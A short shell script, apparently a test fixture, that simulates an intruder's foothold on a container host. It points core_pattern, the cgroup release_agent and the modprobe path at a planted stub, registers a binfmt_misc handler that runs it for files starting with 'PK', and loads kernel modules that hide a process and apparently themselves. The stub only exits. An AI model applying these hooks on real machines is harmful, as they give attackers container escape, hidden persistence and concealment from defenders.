# shellcheck shell=sh
# What an intruder with the kernel's ear plants on the machine with a kernel of its own. Prints the PID of the process that hides.
set -eu
place=/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/7/fs/tmp
mkdir -p "$place"
printf '#!/bin/sh\nexit 0\n' >"$place/.x"
chmod 0755 "$place/.x"
echo "|$place/.x %P" >/proc/sys/kernel/core_pattern
echo "$place/.x" >/sys/fs/cgroup/memory/release_agent
echo "$place/.x" >/proc/sys/kernel/modprobe
# Files that begin with PK are programs now; with F their interpreter is opened at once.
echo ":docx:M::PK::$place/.x:F" >/proc/sys/fs/binfmt_misc/register
setsid sleep 40001 </dev/null >/dev/null 2>&1 &
until grep -q -x sleep "/proc/$!/comm"; do sleep 0.1; done
insmod /modules/hide.ko "pid=$!"
insmod /modules/gone.ko sysfs=1
echo "$!"
